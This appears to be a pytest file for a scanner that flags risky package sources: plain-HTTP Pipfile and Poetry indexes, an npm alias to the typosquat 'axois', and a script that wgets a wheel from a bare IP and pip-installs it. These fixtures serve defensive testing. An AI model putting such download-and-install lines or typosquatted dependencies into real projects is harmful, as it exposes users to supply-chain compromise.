"""Where a project's packages come from, declared in the files of other ecosystems and tools: a
Pipfile's or Gemfile's sources, an npm alias, a Poetry source, a package file downloaded then installed."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_pipfile_source_on_plain_http_and_the_public_index_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "Pipfile": '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n'
            '[[source]]\nurl = "http://203.0.113.140:8080/simple"\nverify_ssl = false\nname = "lab"\n',
        },
    )
    assert errors == {("UNTRUSTED_PACKAGE_SOURCE", "Pipfile", 7)}


def test_an_npm_alias_to_a_near_miss_name_is_a_typosquat(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "package.json": '{\n  "name": "tool",\n  "dependencies": {\n'
            '    "axios": "npm:axois@^1.7.0",\n    "string-width-cjs": "npm:string-width@^4.2.0"\n  }\n}\n'
        },
    )
    assert errors == {("TYPOSQUATTED_PACKAGE", "package.json", 4)}


def test_a_poetry_source_on_plain_http(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {"scripts/deps.sh": "#!/bin/sh\npoetry source add --priority=primary lab http://203.0.113.140/simple\n"},
    )
    assert ("UNTRUSTED_PACKAGE_SOURCE", "scripts/deps.sh", 2) in errors


def test_a_downloaded_package_file_installed_runs_it_and_a_bundled_one_is_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/deps.sh": "#!/bin/sh\n"
            "wget -qO /tmp/fmt.whl http://203.0.113.140/fmt-2.0-py3-none-any.whl\n"
            "pip install /tmp/fmt.whl\n",
            "scripts/vendor.sh": "#!/bin/sh\nnpm install ./vendor/left-pad-1.3.0.tgz\n",
        },
    )
    assert errors == {("DOWNLOAD_AND_RUN", "scripts/deps.sh", 3)}
